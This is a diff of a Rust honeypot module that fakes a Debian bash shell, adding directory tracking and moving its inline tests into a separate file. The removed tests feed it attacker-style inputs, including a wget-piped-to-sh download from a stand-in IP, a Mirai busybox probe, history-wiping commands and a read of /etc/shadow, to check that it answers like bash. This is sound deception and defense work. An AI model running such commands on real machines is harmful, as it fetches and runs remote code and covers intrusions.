@@ -1,9 +1,19 @@
 //! A Debian 13 server's bash that runs nothing: it answers what bots and people ask first of a machine that let them in.
 //!
-//! What it says of the machine is the [persona's](crate::Persona). Nothing is kept: no file appears, no directory is changed.
+//! What it says of the machine is the [persona's](crate::Persona). Nothing is kept but where the stranger is, and which folders he
+//! made: no file appears.
 
+mod daemons;
+mod disks;
+mod files;
+mod load;
 mod machine;
+mod place;
+mod processes;
 mod programs;
+mod users;
+
+pub(crate) use place::Place;
 
 use super::{
     Outcome,
@@ -20,7 +30,7 @@ use alloc::{
 use honeymesh_types::WallTime;
 
 /// The most that is printed for one line, in bytes; the rest is lost.
-pub(crate) const OUTPUT_BYTES_MAX: usize = 12 * 1_024;
+pub(crate) const OUTPUT_BYTES_MAX: usize = 16 * 1_024;
 /// The longest user name that is shown as it is.
 const USER_BYTES_MAX: usize = 32;
 const NOT_FOUND: u32 = 127;
@@ -78,8 +88,13 @@ impl<'a> Shell<'a> {
     }
 
     /// What stands before each line.
-    pub(crate) fn prompt(&self) -> String {
-        format!("{}@{}:~{} ", self.user, self.persona.host(), if self.is_root() { '#' } else { '$' })
+    pub(crate) fn prompt(&self, place: &Place) -> String {
+        let (path, home) = (place.path(&self.home()), self.home());
+        let path = match path.strip_prefix(&home) {
+            Some(rest) if rest.is_empty() || rest.starts_with('/') => format!("~{rest}"),
+            _ => path,
+        };
+        format!("{}@{}:{path}{} ", self.user, self.persona.host(), if self.is_root() { '#' } else { '$' })
     }
 
     /// What a login on a terminal begins with.
@@ -90,13 +105,13 @@ impl<'a> Shell<'a> {
              individual files in /usr/share/doc/*/copyright.\n\n\
              Debian GNU/Linux comes with ABSOLUTELY NO WARRANTY, to the extent\npermitted by applicable law.\n",
             self.persona.host(),
-            self.persona.kernel(),
-            self.persona.kernel_build()
+            self.persona.kernel(self.now).release,
+            self.persona.kernel(self.now).build
         )
     }
 
     /// Answers a line.
-    pub(crate) fn run(&self, line: &[u8], output: &mut Output) -> Outcome {
+    pub(crate) fn run(&self, line: &[u8], place: &mut Place, output: &mut Output) -> Outcome {
         let commands = commands(line);
         let mut rest = commands.as_slice();
         while let [first, behind @ ..] = rest {
@@ -114,14 +129,14 @@ impl<'a> Shell<'a> {
             if matches!(first.slices().as_slice(), [b"exit" | b"logout", ..]) {
                 return Outcome::Exit;
             }
-            self.pipeline(pipeline, output);
+            self.pipeline(pipeline, place, output);
         }
         output.out.truncate(OUTPUT_BYTES_MAX);
         output.err.truncate(OUTPUT_BYTES_MAX);
         Outcome::Prompt
     }
 
-    fn pipeline(&self, pipeline: &[Command], output: &mut Output) {
+    fn pipeline(&self, pipeline: &[Command], place: &mut Place, output: &mut Output) {
         let mut piped: Option<Vec<u8>> = None;
         for (at, command) in pipeline.iter().enumerate() {
             let words = command.slices();
@@ -132,7 +147,7 @@ impl<'a> Shell<'a> {
                 Some(filtered) => own.out = filtered,
                 // What goes into something that is not known here is gone.
                 None if piped.is_some() && Reads::of(&words, false).is_some() => {}
-                None => self.command(command, &words, &mut own),
+                None => self.command(command, &words, place, &mut own),
             }
             if !command.quiet {
                 output.err.append(&mut own.err);
@@ -150,7 +165,7 @@ impl<'a> Shell<'a> {
         output.out.append(&mut piped.unwrap_or_default());
     }
 
-    fn command(&self, command: &Command, words: &[&[u8]], output: &mut Output) {
+    fn command(&self, command: &Command, words: &[&[u8]], place: &mut Place, output: &mut Output) {
         output.reads = Reads::of(words, command.to_file);
         if output.reads.is_some() {
             return;
@@ -164,25 +179,35 @@ impl<'a> Shell<'a> {
         match words {
             [] => {}
             [b"echo", rest @ ..] => echo(rest, b"\n", &mut output.out),
-            _ if self.machine(words, output) || self.program(words, output) => {}
+            _ if self.machine(words, place, output) || self.program(words, place, output) => {}
             [name, ..] => self.not_found(name, output),
         }
     }
 
     fn not_found(&self, name: &[u8], output: &mut Output) {
-        output.status = NOT_FOUND;
-        let shell = if self.interactive { "-bash: " } else { "bash: line 1: " };
         let name = String::from_utf8_lossy(name);
         let what = if name.contains('/') { "No such file or directory" } else { "command not found" };
-        output.complain(&format!("{shell}{name}: {what}\n"));
+        self.refuse(&format!("{name}: {what}"), output);
+        output.status = NOT_FOUND;
+    }
+
+    /// What bash itself complains of.
+    fn refuse(&self, what: &str, output: &mut Output) {
+        output.status = 1;
+        let shell = if self.interactive { "-bash: " } else { "bash: line 1: " };
+        output.complain(&format!("{shell}{what}\n"));
+    }
+
+    fn user(&self) -> &str {
+        &self.user
+    }
+
+    const fn has_terminal(&self) -> bool {
+        self.interactive
     }
 
     fn is_root(&self) -> bool {
         self.user == "root"
-    }
-
-    fn home(&self) -> String {
-        if self.is_root() { "/root".to_string() } else { format!("/home/{}", self.user) }
     }
 }
 
@@ -205,90 +230,4 @@ fn is_assignment(word: &[u8]) -> bool {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::drive::said;
-
-    /// 2026-11-30T12:00:00Z.
-    const NOON: WallTime = WallTime(1_796_040_000_000_000);
-
-    fn answered(user: &str, line: &str) -> (String, String, u32) {
-        let persona = Persona::of([7; 32]).named("web-01").unwrap();
-        let mut output = Output::default();
-        let _ = Shell::new(&persona, user.as_bytes(), NOON, false).run(line.as_bytes(), &mut output);
-        (said(&output.out), said(&output.err), output.status)
-    }
-
-    fn printed(line: &str) -> String {
-        answered("root", line).0
-    }
-
-    #[test]
-    fn what_bots_ask_first_is_answered() {
-        let table = [
-            ("uname -a", "Linux web-01 KERNEL x86_64 GNU/Linux\n"),
-            ("uname -s -v -n -r -m", "Linux web-01 KERNEL x86_64\n"),
-            ("uname", "Linux\n"),
-            ("/bin/uname -m", "x86_64\n"),
-            ("id", "uid=0(root) gid=0(root) groups=0(root)\n"),
-            ("whoami; pwd; hostname", "root\n/root\nweb-01\n"),
-            ("echo -e '\\x6F\\x6B'", "ok\n"),
-            ("cd /tmp && echo $((1)) || echo no", "1\n"),
-            ("false || echo yes", "yes\n"),
-            ("cat /etc/debian_version; cat /etc/issue", "RELEASE\nDebian GNU/Linux 13 \\n \\l\n\n"),
-            ("which ls uname wget", "/usr/bin/ls\n/usr/bin/uname\n/usr/bin/wget\n"),
-            ("ls", ""),
-            ("chmod 777 x; rm -rf /tmp/*; history -c; unset HISTFILE; export A=b", ""),
-            ("busybox MIRAI", ""),
-        ];
-        for (line, expected) in table {
-            let persona = Persona::of([7; 32]);
-            let kernel = format!("{} {}", persona.kernel(), persona.kernel_build());
-            let expected = expected.replace("KERNEL", &kernel).replace("RELEASE", persona.release());
-            assert_eq!(printed(line), expected, "{line}");
-        }
-        assert_eq!(printed("cat /proc/cpuinfo | grep processor | wc -l"), printed("nproc"));
-        assert!(printed("free -m | grep Mem | awk '{print $2}'").trim().parse::<u32>().unwrap() > 3_000);
-        assert!(printed("lscpu | grep 'Model name'").starts_with("Model name: "));
-        assert!(printed("cat /proc/cpuinfo | grep name | head -n 1 | awk '{print $4,$5,$6}'").len() > 5);
-        assert!(printed("w").starts_with(" 12:00:00 up ") && printed("uptime").ends_with('\n'));
-        assert!(printed("ls -la").contains(" .bashrc\n") && printed("cat /proc/version").starts_with("Linux version 6."));
-        assert!(printed("df -h | head -n 2 | awk 'FNR == 2 {print $2;}'").ends_with("G\n"));
-    }
-
-    #[test]
-    fn what_is_not_there_is_complained_of_as_bash_does() {
-        let missing = answered("root", "nosuch; /tmp/x");
-        assert_eq!(missing.1, "bash: line 1: nosuch: command not found\nbash: line 1: /tmp/x: No such file or directory\n");
-        assert_eq!(missing.2, NOT_FOUND);
-        assert_eq!(answered("root", "nosuch 2>/dev/null").1, "");
-        assert_eq!(answered("root", "cat /nothing").1, "cat: /nothing: No such file or directory\n");
-        assert!(answered("root", "wget http://198.51.100.9/i.sh -O- | sh").1.contains("Network is unreachable"));
-        assert_eq!(answered("root", "curl -s http://198.51.100.9/i.sh").2, 7);
-        assert_eq!(answered("root", "busybox MIRAI").1, "MIRAI: applet not found\n");
-    }
-
-    #[test]
-    fn another_user_is_no_root_and_a_strange_one_is_nobody_strange() {
-        assert_eq!(answered("admin", "id").0, "uid=1000(admin) gid=1000(admin) groups=1000(admin),27(sudo),100(users)\n");
-        assert_eq!(answered("admin", "cat /etc/shadow").1, "cat: /etc/shadow: Permission denied\n");
-        assert_eq!(answered("a\x1b[2J", "whoami").0, "user\n");
-    }
-
-    #[test]
-    fn output_is_bounded_and_input_is_asked_for() {
-        assert!(printed(&"cat /proc/cpuinfo;".repeat(60)).len() <= OUTPUT_BYTES_MAX);
-        let persona = Persona::of([7; 32]);
-        let shell = Shell::new(&persona, b"root", NOON, true);
-        let reads = |line: &[u8]| {
-            let mut output = Output::default();
-            let _ = shell.run(line, &mut output);
-            output.reads
-        };
-        assert_eq!(
-            (reads(b"cat > /tmp/x"), reads(b"bash -s"), reads(b"cat"), reads(b"cat /etc/issue")),
-            (Some(Reads::File), Some(Reads::Commands), Some(Reads::Echo), None)
-        );
-        assert_eq!(shell.run(b"id; exit; id", &mut Output::default()), Outcome::Exit);
-    }
-}
+mod tests;
